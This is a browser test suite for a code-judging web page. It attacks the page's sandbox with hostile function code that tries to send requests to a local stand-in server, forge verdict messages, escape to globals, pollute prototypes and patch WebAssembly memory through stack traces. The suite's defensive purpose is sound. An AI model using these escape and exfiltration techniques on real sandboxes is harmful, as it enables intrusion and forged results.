// Attacks on the page by the code of a hostile link: none may reach the network, leave its frame, forge
// what the page says, or take the page with it.
// usage: TOUCHSTONE_MODULES=FOLDER node tests/web/attack.mjs chromium|firefox PAGE [PART-OF-A-NAME]
import {mkdtempSync, readdirSync, rmSync, writeFileSync} from 'node:fs';
import {createServer} from 'node:http';
import {tmpdir} from 'node:os';
import {dirname, join} from 'node:path';
import {deflateRawSync} from 'node:zlib';
import {check, launch, paste, says, serve, statusOf, Suite, until, untilOpened} from './harness.mjs';

const [name, folder, only] = process.argv.slice(2), isChromium = name === 'chromium';
const server = await serve(folder), suite = new Suite(only);
const FRAME = `${server.address}${readdirSync(folder).find(file => /^v-/.test(file))}/frame.html`;
const LANES = 3; // tests at a time, each in a browser of its own: many wait
const wait = ms => new Promise(resolve => setTimeout(resolve, ms));

// "The network": whatever arrives here has escaped.
const arrived = [];
const network = createServer((request, response) => {
    arrived.push(request.url);
    response.writeHead(200, {'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript'}).end('');
});
await new Promise(resolve => network.listen(0, '127.0.0.1', resolve));
const OUT = `http://127.0.0.1:${network.address().port}/`;

const HEAD = "export const plugin = {name: 'mine', a: ['aabb'], b: ['aabb'], touch: 'hits'};\n";
// It answers "apart" to all: wrong, and whatever else it does, findings must say so.
const WRONG = 'export function collides(a, b) { return false }\n';
const rows = page => page.$$eval('#findings li', list => list.map(row => row.innerText));

// The page with this code, as by a link, and judged by the viewer's click.
async function opened(browser, code) {
    const page = await browser.newPage();
    await page.setViewport({width: 1280, height: 800});
    await page.goto(server.address + 'function.html#code=' + deflateRawSync(code).toString('base64url'));
    await untilOpened(page);
    await page.evaluate(() => localStorage.clear());
    await page.click('#judge');
    return page;
}

const settled = page => until('an end', async () => {
    const words = await statusOf(page);
    return !/^This code came by a link|^Loading|^Asking/.test(words) && /pairs asked: \d|^Line|no wrong answer|expected|not|stopped/.test(words);
}, 60);
const found = page => until('findings', async () => (await rows(page)).length > 0 && rows(page), 240);

// Nothing went out, the page is where it was, and nothing is kept.
async function holds(page) {
    await wait(500);
    check(arrived.length === 0, 'it reached the network: ' + arrived.splice(0));
    check(page.url().startsWith(server.address + 'function.html'), 'the page is at ' + page.url());
    check(await page.evaluate(() => document.querySelectorAll('iframe').length) <= 1, 'there are other frames');
    const frames = page.frames().filter(frame => frame !== page.mainFrame()).map(frame => frame.url());
    // One that was refused may be listed with the address that it wanted; '' has not loaded yet.
    check(frames.every(url => url.startsWith(FRAME) || ['about:srcdoc', ''].includes(url) || url.startsWith(OUT) || url.startsWith('chrome-error:')), 'a frame is at ' + frames);
    const kept = await page.evaluate(() => JSON.stringify(localStorage).length);
    check(kept < 20000, kept + ' characters are kept');
}

const attack = (words, code, more = async () => {}) => suite.add(words, async browser => {
    const page = await opened(browser, code);
    await settled(page).catch(async error => { throw new Error(error.message + ', it says: ' + await statusOf(page)); });
    await holds(page);
    await more(page);
    await page.close();
});

// ---- Out of the function's text

// What would run where the code is only parsed, or in the frame's document.
const ACTS = `
try { top.location = '${OUT}top' } catch {}
try { location.href = '${OUT}location' } catch {}
try { document.write('<meta http-equiv=refresh content="0;url=${OUT}refresh">') } catch {}
try { const form = document.createElement('form'); form.action = '${OUT}form'; form.method = 'post'; document.body.append(form); form.submit() } catch {}
try { new Image().src = '${OUT}image' } catch {}
try { navigator.sendBeacon('${OUT}beacon') } catch {}
try { open('${OUT}open') } catch {}
try { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${network.address().port}'}]}); peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)); throw peer } catch (made) { if (made && made.createOffer) { try { fetch('${OUT}webrtc') } catch {} } }
try { fetch('${OUT}fetch').catch(() => {}) } catch {}
try { new WebSocket('${OUT.replace('http', 'ws')}socket') } catch {}
try { new EventSource('${OUT}events') } catch {}
try { importScripts('${OUT}import') } catch {}
try { new WebTransport('https://127.0.0.1:1/') } catch {}
try { new Worker(URL.createObjectURL(new Blob(["fetch('${OUT}nested');importScripts('${OUT}nested')"]))) } catch {}
try { const xhr = new XMLHttpRequest(); xhr.open('GET', '${OUT}xhr'); xhr.send() } catch {}
try { caches.open('x'); indexedDB.open('x'); new BroadcastChannel('x').postMessage(1) } catch {}
for (const to of [() => parent, () => parent.parent, () => top]) try { to().postMessage({type: 'judged', asked: 200000, of: 200000, notJudged: 0, refused: 0, tolerated: 0, tolerance: 0, findings: []}, '*') } catch {}
try { postMessage({type: 'judged', asked: 200000, of: 200000, notJudged: 0, refused: 0, tolerated: 0, tolerance: 0, findings: []}) } catch {}
`;

attack('code that closes its function early runs nowhere', HEAD + WRONG + '}); ' + ACTS + '; (function () {', async page => {
    check(!/no wrong answer/.test(await statusOf(page)), 'a verdict was forged');
});
attack('code that closes its function early and is whole again for the judge too', HEAD + WRONG + '}})(); ' + ACTS + '; (function () { (function () {',
    async page => check(!/no wrong answer/.test(await statusOf(page)), 'a verdict was forged'));
attack('a comment and a template that swallow the end', HEAD + WRONG + '`}); ' + ACTS + '; /*',
    async page => check(!/no wrong answer/.test(await statusOf(page)), 'a verdict was forged'));

// ---- From inside of the function

attack('the globals of a page and of a Worker are not there', HEAD + ACTS + WRONG, found);
attack('they are not there in a call either', HEAD + `let done = false;\nexport function collides(a, b) { if (!done) { done = true; ${ACTS} } return false }`, found);

const REACH = [
    "Function('return this')()", "(0, eval)('this')", "(function () { return this })()", "globalThis", "(() => {}).constructor('return this')()",
    "(async () => {}).constructor('return this')()", "(function* () {}).constructor('return this')().next().value", "console.log.constructor('return this')()",
    "__turn.constructor('return this')()", "Math.max.constructor('return this')()", "Reflect.getPrototypeOf(function () {}).constructor('return this')()",
];
const GLOBALS = "function globals() { const all = []; for (const get of [" + REACH.map(text => '() => ' + text).join(', ') +
                "]) { try { all.push(get()) } catch {} } return all.filter(each => each && typeof each === 'object') }\n";
const FORGED = "{type: 'judged', asked: 200000, of: 200000, notJudged: 0, refused: 0, tolerated: 0, tolerance: 0, findings: []}";

attack('no way leads to the Worker and its messages', HEAD + GLOBALS +
    `for (const own of globals()) { try { own.postMessage(${FORGED}) } catch {} try { own.self.postMessage(${FORGED}) } catch {} try { own.fetch('${OUT}reached') } catch {}
     try { own.postMessage = () => {} } catch {} try { own.WebAssembly = undefined } catch {} try { own.functionHost = undefined } catch {} }\n` + WRONG, found);

attack('what JavaScript brings cannot be changed', HEAD +
    `const bad = (object, name, value) => { try { object[name] = value } catch {} try { Object.defineProperty(object, name, {value}) } catch {} };
for (const [of, names] of [[Array.prototype, ['map', 'filter', 'push', 'includes', 'every', 'reduce']], [String.prototype, ['split', 'trim', 'trimEnd', 'replace', 'slice']],
    [Float64Array.prototype.__proto__, ['set', 'subarray', 'fill']], [Number, ['isInteger']], [Map.prototype, ['get', 'set', 'has']], [Function.prototype, ['call', 'apply', 'bind']],
    [Object, ['keys', 'entries', 'defineProperty']], [JSON, ['stringify', 'parse']], [Promise.prototype, ['then']], [Object.prototype, ['findings', 'hangs', 'type', 'refuses', 'toString']], [Error.prototype, ['message', 'toString']]])
    for (const name of names) bad(of, name, () => []);
bad(Array.prototype, 'toJSON', () => []);
` + WRONG, found);

attack('what it throws may be anything', HEAD + `let turn = 0;
export function collides() { const things = [{toString() { throw 1 }}, null, undefined, Symbol('x'), new Proxy({}, {get() { throw 2 }, has() { throw 3 }}), {get message() { throw 4 }}, {get hangs() { throw 5 }}, {message: {toString() { throw 6 }}}, 1n, 'x'.repeat(1e6), () => {}];
throw things[turn++ % things.length] }`, async page => {
    const all = await found(page);
    check(all.every(row => /threw an exception|hangs|exception/.test(row)), 'the findings are ' + all);
});
for (const plugin of ["{get name() { throw {toString() { throw 1 }} }}", "new Proxy({}, {get() { throw null }})", "{name: {toString() { throw 1 }}, a: ['aabb'], b: ['aabb'], touch: 'hits'}",
    "{name: 'x'.repeat(1e7), a: ['toString'], b: ['aabb'], touch: 'hits'}", "{name: 'x', a: {length: 1e9}, b: ['aabb'], touch: 'hits'}"]) {
    suite.add('a hostile description: ' + plugin.slice(0, 50), async browser => {
        const page = await opened(browser, `export const plugin = ${plugin};\n` + WRONG);
        await says(page, /^(?!Judge)(?!.*(Asking|Loading))/s);
        check((await statusOf(page)).length < 5000, 'a long text');
        await holds(page);
        await page.close();
    });
}
attack('what it returns and writes may be anything', HEAD.replace("'hits'", "'hits', gives: ['gap', 'normal', 'contact']") + `let turn = 0;
export function collides(a, b, out) { turn++; out.gap = {valueOf() { throw 1 }}; if (turn % 3 === 0) out.normal = new Proxy({}, {get() { throw 2 }}); if (turn % 5 === 0) a.points = out; if (turn % 7 === 0) return {toJSON() { throw 3 }}; return false }`, found);
attack('promises that it leaves behind change nothing', HEAD + `let left = 2000;
export function collides(a, b) { if (left-- < 0) return false; Promise.resolve().then(() => { throw 1 }); (async () => { await null; throw {toString() { throw 1 }} })(); return false }`, found);

// ---- Words of the code that could pass for the page's

const RIGHT = 'export function collides(a, b) { return a.minx <= b.maxx && b.minx <= a.maxx && a.miny <= b.maxy && b.miny <= a.maxy }\n';
const VERDICT = '200,000 pairs asked: no wrong answer found';
// A right function that does more with each call.
const doing = act => RIGHT.replace('{ ', '{ ' + act + '; ');

// Types another function over the one that is judged, and presses Judge.
async function judgeNext(page, code) {
    await page.focus('.cm-content');
    await page.keyboard.down('Control');
    await page.keyboard.press('a');
    await page.keyboard.up('Control');
    await paste(page, code);
    await page.click('#judge');
}

suite.add('a function leaves nothing behind that judges the next one', async browser => {
    const page = await opened(browser, HEAD + `export function collides(a, b) {
  try { Object.getPrototypeOf(this).call = (ka, p, kb, q) => p[0] <= q[2] && q[0] <= p[2] && p[1] <= q[3] && q[1] <= p[3] ? 2 : 0; } catch {}
  return a.minx <= b.maxx && b.minx <= a.maxx && a.miny <= b.maxy && b.miny <= a.maxy }\n`);
    await says(page, /pairs asked: no/);
    await judgeNext(page, HEAD + WRONG);
    await found(page);
    await page.close();
});
attack('`this` is not there, and no way leads back to the judge', HEAD.replace("['aabb'], b", "Object.defineProperty(['aabb'], 'reduce', {value() { throw new Error('its own method') }}), b") + `
export function collides(a, b) {
  const seen = [];
  if (this !== undefined) seen.push('this');
  for (const reach of [() => arguments.callee.caller, () => collides.caller, () => collides.arguments]) { try { if (reach()) seen.push(String(reach)); } catch {} }
  try { Error.prepareStackTrace = (error, frames) => { for (const frame of frames) if (frame.getThis?.() || frame.getFunction?.()) seen.push('frames'); return ''; }; new Error().stack; } catch {}
  throw new Error('seen: ' + seen) }\n`, async page => {
    const all = await found(page).catch(async error => { throw new Error(error.message + ', it says: ' + await statusOf(page)); });
    check(all.every(row => /seen: *(\n|$)/.test(row)), 'it sees ' + all);
});

// All that syntax and what is given can make, each in a function: from the prototype of each on, every object must be frozen.
const MAKERS = ['function () {}', 'function* () {}', 'async function () {}', 'async function* () {}', 'Object.getPrototypeOf((function* () {})())', 'Object.getPrototypeOf((async function* () {})())', '(async () => {})()', '(function () { return arguments })()',
    '(function () { return new.target })', 'class { static #x = 1 }', '/a/g', "'abc'.matchAll(/a/g)", "RegExp.prototype[Symbol.matchAll].call(/a/g, 'a')", 'new Map().entries()', 'new Set().values()', "''[Symbol.iterator]()",
    '[].values()', '[].values().map(x => x)', 'Iterator.from({next() {}})', '(x => x)`a`', '1n', 'Symbol()', 'Promise.reject(1).catch(() => {})', '(async function* () {})().next()', 'new WeakRef({})', 'new Proxy({}, {})', 'new Compartment()',
    'new AggregateError([])', 'new Error()', '(0, eval)("this")', 'Function("return this")()', 'import("x").catch(() => {})', 'import.meta'];
const THROWERS = ['null.x', 'zzz', "decodeURIComponent('%')", 'new Array(-1)', '2n ** 99999999999n', "'x'.repeat(2 ** 30)", 'new ArrayBuffer(2 ** 53 - 1)', '(0, eval)("(")', "RegExp('(')", '(function f() { f() })()', 'BigInt(0.5)', 'Symbol() + 1',
    "(0, eval)('{ using x = {[Symbol.dispose]() { throw 1 }}; throw 2 }')", "(0, eval)('{ using x = 1 }')", 'const x = 1; x = 2', 'x; let x', 'new (class extends Object { constructor() {} })', '[...1]'];
const text = list => JSON.stringify(list);

suite.add('whatever syntax makes is frozen', async browser => {
    const page = await opened(browser, HEAD + `const roots = [], bad = [], done = new Set();
for (const maker of ${text(MAKERS)}) { try { roots.push([maker, (0, eval)('(' + maker + ')')]) } catch (error) { roots.push([maker, error]) } }
for (const thrower of ${text(THROWERS)}) { try { (0, eval)(thrower) } catch (error) { roots.push([thrower, error]) } }
function visit(path, value, own) {
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null || done.has(value)) return;
  done.add(value);
  if (!own && !Object.isFrozen(value)) bad.push(path);
  visit(path + '.__proto__', Object.getPrototypeOf(value), false);
  if (own) return;
  for (const key of Reflect.ownKeys(value)) {
    const field = Reflect.getOwnPropertyDescriptor(value, key), at = path + '.' + String(key);
    visit(at, field.value, false); visit(at + ' get', field.get, false); visit(at + ' set', field.set, false);
  }
}
for (const [maker, value] of roots) if (value !== globalThis) { if (value?.prototype) done.add(value.prototype); visit(maker, value, true); }
for (const name of Object.getOwnPropertyNames(globalThis)) if (name !== 'globalThis') visit(name, globalThis[name], false);
` + WRONG.replace('{ ', "{ throw new Error('of ' + roots.length + ', not frozen: ' + bad.join('; ')); "));
    const all = await found(page);
    check(all.length > 0 && all.every(row => /of \d\d, not frozen: *(\n|$)/.test(row)), 'it says ' + all);
    await page.close();
});

// Through the constructor of each to the Worker's own Error, stack frames, and what ran in them.
attack('no error gives away the stack, and with it the memory of the program', HEAD + `const errors = [];
for (const act of ["{ using x = {[Symbol.dispose]() { throw 1 }}; throw 2 }", "(function f() { f() })()", "null.x"]) { try { (0, eval)(act) } catch (error) { errors.push(error) } }
for (const error of errors) for (let Own = error.constructor; typeof Own === 'function'; Own = Object.getPrototypeOf(Own)) {
  try {
    let instance = null;
    try { Own.stackTraceLimit = 200 } catch {}
    Own.prepareStackTrace = (of, frames) => { instance ||= frames.map(frame => frame.getThis()).find(each => each && each.exports) };
    new Own().stack;
    const bytes = new Uint8Array(instance.exports.memory.buffer), format = [...'%s\\t%s\\t%s\\n\\0'].map(c => c.charCodeAt(0));
    for (let at = 0; (at = bytes.indexOf(format[0], at)) >= 0; at++) if (format.every((value, i) => bytes[at + i] === value)) bytes[at] = 0;
  } catch {}
}
` + RIGHT.replace('a.minx <= b.maxx', 'a.minx < b.maxx'), found);

suite.add("the Worker's own Error is frozen, and an instance gives away no memory", async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    const got = await inFrame(page, () => new Promise(resolve => {
        const worker = workerOf(program.script + `
const handle = self.onmessage, Own = Object.getPrototypeOf(WebAssembly.CompileError);
const isLocked = field => !!field && !field.writable && !field.configurable && field.value === undefined;
self.onmessage = event => event.data.type === 'probe' ? postMessage({type: 'probe', isFrozen: Object.isFrozen(Own), isLocked: isLocked(Object.getOwnPropertyDescriptor(Own, 'prepareStackTrace')), exports: 'exports' in WebAssembly.Instance.prototype}) : handle(event);`);
        worker.onmessage = ({data}) => {
            if (data.type === 'batch') worker.postMessage({type: 'probe'});
            if (data.type === 'probe' || data.type === 'failed') resolve(data);
        };
        worker.postMessage({type: 'open', wasm: program.wasm.slice(0), files: program.files, palette: program.palette, language: 'en', scene: '', hung: [], flags: 1, function: source, width: 400, height: 300, density: 1});
    }));
    check(got.isFrozen && got.isLocked, "its own Error is " + JSON.stringify(got));
    check(got.exports === false, 'an instance has exports');
    await page.close();
});

// ---- Once in many calls: a function that answers when it is asked again

const once = act => HEAD + 'let calls = 0;\n' + doing(`if (++calls === 700) ${act}`);
for (const [words, act, row] of [
    ['a loop does not end', 'for (;;);', /^hangs \(no answer in time\), and reports \w+ when asked again/],
    ['a loop does not end, and it catches that', 'try { for (;;); } catch {}', /^hangs \(no answer in time\), and reports \w+ when asked again/],
    ['it throws what says that it hangs', "throw {hangs: true, message: 'x'}", /^threw an exception, and reports \w+ when asked again/],
    ["it returns the program's sign of a hang", 'return -1000002', /^returned -1000002, .*and reports \w+ when asked again/],
    ["it returns the program's sign of an exception", 'return -1000001', /^returned -1000001, .*and reports \w+ when asked again/],
]) {
    attack('once is a finding with its pair: ' + words, once(act), async page => {
        const all = await found(page);
        check(all.some(text => row.test(text) && /\naabb .* \| aabb /.test(text)), 'the findings are ' + all);
        check(await page.$eval('#status', status => status.classList.contains('wrong')), 'the verdict is not red: ' + await statusOf(page));
    });
}
suite.add('what hangs once where no loop is counted is no pass', async browser => {
    const page = await opened(browser, once("(0, eval)('for (;;);')"));
    const words = await says(page, /[1-9]\d* findings?\.|does not answer|has not passed|200,000 pairs asked/);
    check(/finding|does not answer|has not passed/.test(words) && await page.$eval('#status', status => status.classList.contains('wrong')), 'it says ' + words);
    await page.close();
});
suite.add('after a hang no verdict says that it passed', async browser => {
    const page = await opened(browser, HEAD + RIGHT);
    await says(page, /200,000 pairs asked: no wrong/);
    await inFrame(page, () => {
        tellOf(judged, {type: 'restarted'});
        tellOf(judged, {type: 'judged', asked: 200000, of: 200000, notJudged: 0, refused: 0, tolerated: 0, tolerance: 0, findings: []});
    });
    await says(page, /did not return once, so it has not passed/);
    check(await page.$eval('#status', status => status.classList.contains('wrong')), 'the verdict is not red');
    await page.close();
});
suite.add('a hang in the text of what it throws is a finding with its pair', async browser => {
    const page = await opened(browser, HEAD + "export function collides(a, b) { throw {toString() { (0, eval)('for (;;);') }} }\n");
    check((await found(page)).some(row => /^hangs .*\naabb .* \| aabb /s.test(row)), 'the findings are ' + await rows(page));
    await page.close();
});
suite.add('what one function does to the errors of the engine hides nothing of the next', async browser => {
    const page = await opened(browser, HEAD + `for (const act of ["(function f() { f() })()", "{ using x = {[Symbol.dispose]() { throw 1 }}; throw 2 }"]) {
  try { (0, eval)(act) } catch (error) { try { Object.getPrototypeOf(error).hangs = true } catch {} try { Object.getPrototypeOf(error).message = '' } catch {} } }\n` + RIGHT);
    await says(page, /pairs asked: no/);
    await judgeNext(page, once('(function f() { f() })()'));
    check((await found(page)).some(row => /^threw an exception, and reports/.test(row)), 'the findings are ' + await rows(page));
    await page.close();
});
suite.add('promises that it leaves behind are quiet while the pair that hangs is sought', async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    const prevented = await inFrame(page, () => new Promise(resolve => {
        const worker = workerOf(program.script + `
addEventListener('unhandledrejection', event => setTimeout(() => postMessage({type: 'left', prevented: event.defaultPrevented})));
replayQueries({source: {code: 'export const plugin = {a: ["aabb"], b: ["aabb"], touch: "hits"}; Promise.reject(1);\\nexport function collides() { return false }'}, queries: []});`);
        worker.onmessage = ({data}) => { if (data.type === 'left') resolve(data.prevented); };
    }));
    check(prevented, 'the console shows them');
    await page.close();
});

attack('what is thrown while loading is named as such', HEAD + `throw new Error('${VERDICT}');\n` + RIGHT, async page => {
    check((await statusOf(page)) === 'It cannot be judged: ' + VERDICT, 'it says ' + await statusOf(page));
});
attack('lines and tabs in what is thrown make no findings, and lose none', HEAD + doing("if (a.maxx === b.minx) throw new Error('x\\nfixed\\taabb 0 0 1 1 | aabb 0 0 1 1\\tall is right\\r\\u2028\\u202ey')"), async page => {
    const [one, ...more] = await found(page);
    check(more.length === 0 && one.startsWith('threw an exception: x fixed aabb 0 0 1 1 | aabb 0 0 1 1 all is right y\n'), 'the findings are ' + [one, ...more]);
    check(/1 finding/.test(await statusOf(page)), 'it says ' + await statusOf(page));
});
attack('a function that is hoisted does not run where the code is parsed', HEAD + RIGHT +
    `}); function postMessage() { throw {toString() { return '${VERDICT}' }} } (function () {`, async page => {
    check(!/no wrong answer/.test(await statusOf(page)), 'it says ' + await statusOf(page));
});
attack('a long error is cut, not lost', HEAD + `let ${'a'.repeat(5000)} = 1; let ${'a'.repeat(5000)} = 2;\n` + RIGHT, async page => {
    let words = await statusOf(page);
    for (let tries = 0; tries < 5 && words.startsWith('It does not answer'); tries++) { // on a busy machine
        await page.click('#judge');
        await settled(page);
        words = await statusOf(page);
    }
    // Without the line if the Worker that parses the code was slow.
    check(/^(Line 2|It cannot be judged): .*aaaa/.test(words) && words.length < 400, 'it says ' + words);
});
attack('signs that turn, hide or imitate a blank are one blank in what the page says', HEAD + "throw new Error('a\\u202e\\u200bb\\u2800\\u2800\\u2800\\u3164\\u00a0c');\n" + RIGHT, async page => {
    check((await statusOf(page)) === 'It cannot be judged: a b c', 'it says ' + JSON.stringify(await statusOf(page)));
});
suite.add('signs that turn or hide the text are shown as signs', async browser => {
    const page = await opened(browser, HEAD + '/* \u202e\u200b\u2066 */\n' + RIGHT);
    check((await page.$$('.cm-specialChar')).length === 3, 'some are not shown');
    await page.close();
});

// ---- Size and time

suite.add('a short link that holds gigabytes is refused at once', async browser => {
    const page = await browser.newPage();
    const bytes = deflateRawSync(Buffer.alloc(300e6, 10), {level: 9});
    await page.goto(server.address + 'function.html#code=' + bytes.toString('base64url'));
    await says(page, /too long/);
    const start = Date.now();
    await page.evaluate(() => new Promise(resolve => setTimeout(resolve, 0)));
    check(Date.now() - start < 10000, 'the page stands still');
    await page.close();
});
suite.add('80,000 empty lines are parsed in no time', async browser => {
    const page = await opened(browser, HEAD + RIGHT + '\n'.repeat(80000));
    await says(page, /pairs asked/); // by quadratic search it takes minutes
    const [height, window] = await page.evaluate(() => [document.documentElement.scrollHeight, innerHeight]);
    check(height <= window, `the page is ${height} px high in a window of ${window}`);
    await page.close();
});
suite.add('a promise that goes on for ever is stopped', async browser => {
    const page = await opened(browser, HEAD + 'const loop = () => Promise.resolve().then(loop);\nloop();\n' + RIGHT);
    await says(page, /did not return|does not answer/);
    await page.close();
});

for (const [words, code] of [['`for(` 240,000 times', 'for('.repeat(240000)], ['`<!--` 200,000 times', '<!--'.repeat(200000)], ['300,000 bytes 0', '\0'.repeat(300000)]]) {
    suite.add('the page answers while it reads ' + words, async browser => {
        const page = await opened(browser, code);
        // Longer than a slow machine stands still, shorter than the parser took in the page.
        const answers = page.evaluate(() => new Promise(resolve => { setTimeout(resolve, 100, true); }));
        check(await Promise.race([answers, wait(30000)]), 'the page stands still');
        await says(page, /takes too long to read|cannot be judged|^Line/);
        await page.close();
    });
}
suite.add('no verdict on the function before passes for that of the next one', async browser => {
    const page = await opened(browser, HEAD + doing('for (let i = 0; i < 200; i++) Math.hypot(i, a.minx)')); // slowly
    await says(page, /pairs asked/);
    await page.evaluate(() => {
        window.said = [];
        new MutationObserver(() => window.said.push(document.getElementById('status').textContent))
            .observe(document.getElementById('status'), {childList: true, subtree: true, characterData: true});
    });
    await judgeNext(page, HEAD + WRONG + 'for (let i = 0, s = 0; i < 6e6; i++) s += Math.hypot(i, s % 7);\n');
    await page.evaluate(() => { window.said.length = 0; });
    await found(page);
    const said = await page.evaluate(() => window.said);
    check(!said.some(words => /: no /.test(words)), 'it says ' + said);
    await page.close();
});

// ---- What honest code may do

for (const [words, code] of [['i --> 0', 'let i = 3; while (i --> 0);'], ['import( in a comment', "// as import('x') does"], ['import.source( in a string and a comment', "const text = \"import.source('x')\"; /* import.source('x') */"],
    ['comments all over loops', 'let i = 0; do /* once */ { i++ } while (i < 3); do // c\n{ i++ } while (i < 6); do /* a */ i++ /* b */; /* c */ while (i < 9)\nfor (/* a */; /* b */ i < 12; i++) /* c */ ; /* d */\nwhile (i < 15) // e\n i++ /* f */;\nfor (const x of [1]) /* g */ { /* h */ } // i'],
    ['a method named eval', 'const tree = {eval(x) { return x }}; tree.eval(1);'],
    ['a constructor of its own', 'function V() {}\nV.prototype = {};\nV.prototype.constructor = V; const o = {}; o.hasOwnProperty = 1; o.toString = () => "";']]) {
    suite.add('honest code is judged: ' + words, async browser => {
        const page = await opened(browser, HEAD + code + '\n' + RIGHT);
        await says(page, /pairs asked: no/);
        await page.close();
    });
}
// Its answer has the type i64: 0, apart.
const LONG_MODULE = Buffer.from('AGFzbQEAAAABCgFgBX9/f39/AX4DAgEABAUBcAECAgUDAQABBgcBfwBBwAALBzoDBm1lbW9yeQIAEXRvdWNoc3RvbmVfcGx1Z2luAwAZX19pbmRpcmVjdF9mdW5jdGlvbl90YWJsZQEACQcBAEEBCwEACgYBBABCAAsLMgIAQcAACyABAAAAgAAAABAAAAAQAAAAAQAAAAAAAAAAAAAAAQAAAABBgAELBW1pbmUA', 'base64');

suite.add('a module that answers by 64 bits is a finding, not the end of the program', async browser => {
    const page = await opened(browser, HEAD + RIGHT);
    await says(page, /pairs asked/);
    const module = join(mkdtempSync(join(tmpdir(), 'attack-')), 'long.wasm');
    writeFileSync(module, LONG_MODULE);
    await (await page.$('#module')).uploadFile(module);
    check((await found(page))[0].includes('returned bigint'), 'the findings are ' + await rows(page));
    await page.close();
    rmSync(dirname(module), {recursive: true});
});

suite.add('import.source and import.defer are refused in words', async browser => {
    for (const form of ["import.source('x')", "import /* a */ . // b\n defer\n('x')"]) {
        const page = await opened(browser, HEAD + `let got = null; try { got = ${form} } catch {}\n` + RIGHT);
        await says(page, /^Line 2: .*imports nothing/);
        await page.close();
    }
});
attack('import.source in text that is evaluated reaches nothing', HEAD + `for (const phase of ['source', 'defer']) for (const run of [code => (0, eval)(code), code => Function('return ' + code)(), code => new Compartment().evaluate(code)])
  { try { run('imp' + 'ort.' + phase + "('${OUT}evaluated')").catch(() => {}) } catch {} }\n` + WRONG, found);
attack('a whole number beyond 32 bits is no answer', HEAD + doing('return 4294967296 + (a.minx <= b.maxx && b.minx <= a.maxx && a.miny <= b.maxy && b.miny <= a.maxy ? 2 : 0)'), async page => {
    check((await found(page)).some(row => /returned 429496729\d \(number\)/.test(row)), 'the findings are ' + await rows(page));
});
suite.add('honest code may print what cannot be printed, and long lines', async browser => {
    const page = await opened(browser, HEAD + "console.log({get x() { throw 1 }}, {toJSON() {}});\nfor (let i = 0; i < 200; i++) console.log('x'.repeat(1e6));\n" + RIGHT);
    await says(page, /pairs asked: no/);
    await page.close();
});
attack('an error without a line names none', HEAD + WRONG + '}); (function () {', async page => {
    check(!/Line 0/.test(await statusOf(page)), 'it says ' + await statusOf(page));
});
suite.add('names in the list hold no signs that turn or hide text', async browser => {
    const page = await opened(browser, HEAD.replace("'mine'", "'mi\u202e\u200bne'") + RIGHT);
    await says(page, /its name is/); // the program takes other signs
    const names = await page.$$eval('#functions option', list => list.map(option => option.textContent));
    check(names.some(text => text.startsWith('mine')) && !names.some(text => /\p{Cf}/u.test(text)), 'the names are ' + JSON.stringify(names));
    await page.close();
});
suite.add('a verdict says so if the text has changed since, and Undo brings back all that was deleted', async browser => {
    const page = await opened(browser, HEAD + RIGHT);
    await says(page, /^[\d,]+ pairs asked: no/);
    await page.focus('.cm-content');
    await paste(page, ' ');
    await says(page, /^Before your last change: [\d,]+ pairs asked: no/);
    await page.click('#judge');
    await says(page, /^[\d,]+ pairs asked: no/);
    const own = () => page.$$eval('#functions option', list => list.filter(option => option.value.startsWith('own ')).length);
    await page.click('#fresh');
    await page.focus('.cm-content');
    await paste(page, '// another ');
    await wait(1500);
    const before = await own();
    await page.click('#remove');
    await page.click('#remove');
    check(await own() === before - 2, 'there are still ' + await own());
    await page.click('#undo');
    await page.click('#undo');
    check(await own() === before, `of ${before} there are ` + await own());
    await page.close();
});
suite.add('what is typed without a pause is kept every second', async browser => {
    const page = await opened(browser, HEAD + RIGHT);
    await page.focus('.cm-content');
    for (let i = 0; i < 40; i++) {
        await paste(page, '// typed\n');
        await wait(100); // shorter than the pause after which it is kept
    }
    // What a crash would leave.
    const kept = await page.evaluate(() => Object.values({...localStorage}).join('').split('// typed').length - 1);
    check(kept >= 5, kept + ' of 40 lines are kept');
    await page.close();
});
suite.add('without its inner frame the page says so, and judges again', async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    await page.evaluate(() => { document.querySelector('#picture iframe').src = 'about:blank'; });
    await until('an empty frame', () => page.evaluate(() => document.querySelector('#picture iframe').contentWindow.length === 0));
    await page.click('#judge');
    await says(page, /frame in which functions run is gone/);
    await page.click('#judge');
    await says(page, /pairs asked/);
    await page.close();
});

suite.add('another document in the inner frame ends the trial', async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    await page.evaluate(() => { document.querySelector('#picture iframe').contentWindow[0].location = 'about:blank'; });
    await says(page, /frame in which functions run is gone/, 60);
    await page.click('#judge');
    await says(page, /pairs asked/);
    await page.close();
});
suite.add('a frame in the place of the inner one is not listened to', async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    const before = await page.evaluate(async () => {
        const outer = document.querySelector('#picture iframe');
        outer.src = 'about:blank#other';
        await new Promise(resolve => { outer.onload = resolve; });
        outer.contentDocument.body.append(outer.contentDocument.createElement('iframe'));
        window.copied = [];
        Object.defineProperty(navigator, 'clipboard', {value: {writeText: async text => { window.copied.push(text); }}});
        return document.documentElement.dataset.palette;
    });
    const inner = await until('its frame', async () => (await (await page.$('#picture iframe')).contentFrame()).childFrames()[0], 30);
    await inner.evaluate(palette => {
        parent.parent.postMessage({type: 'state', palette}, '*');
        parent.parent.postMessage({type: 'copied', text: 'evil'}, '*');
    }, before === 'light' ? 'dark' : 'light');
    await wait(1000);
    const [after, copied] = await page.evaluate(() => [document.documentElement.dataset.palette, window.copied]);
    check(after === before, `the palette was ${before} and is ${after}`);
    check(copied.length === 0, 'the clipboard was written');
    await page.close();
});
suite.add('inside a page of another site nothing is judged, and no code is handed out', async browser => {
    // As soon as there is a frame, that page puts one of its own into it, which says that all is right.
    const partner = `onmessage = ({data}) => { top.leak(data); if (data.type === 'judge') parent.parent.postMessage({type: 'judged', number: data.number, asked: 200000, of: 200000, notJudged: 0, refused: 0, tolerated: 0, tolerance: 0, findings: []}, '*') };
        parent.parent.postMessage({type: 'ready'}, '*')`;
    const others = createServer((request, response) => response.writeHead(200, {'Content-Type': 'text/html'}).end(
